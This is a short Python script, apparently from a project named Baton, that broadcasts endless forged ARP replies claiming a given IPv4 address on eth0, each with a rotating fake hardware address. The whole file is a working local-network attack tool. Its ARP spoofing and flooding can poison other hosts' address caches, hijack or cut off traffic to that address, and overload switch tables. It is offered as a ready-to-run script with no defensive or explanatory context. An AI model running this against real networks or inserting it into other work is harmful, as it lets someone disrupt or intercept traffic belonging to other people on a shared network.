# Copyright (c) 2026 The Baton authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Claims an IPv4 address on eth0 as fast as it can, each time with another hardware address: ``arp_flood.py ADDRESS``."""

import socket
import struct
import sys
from contextlib import suppress

ip = socket.inet_aton(sys.argv[1])
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("eth0", 0x0806))
number = 0
while True:
    number = number % 60000 + 1
    mac = b"\x02\0\0\0" + number.to_bytes(2, "big")
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + ip + b"\xff" * 6 + ip
    with suppress(OSError):
        wire.send(b"\xff" * 6 + mac + b"\x08\x06" + body)
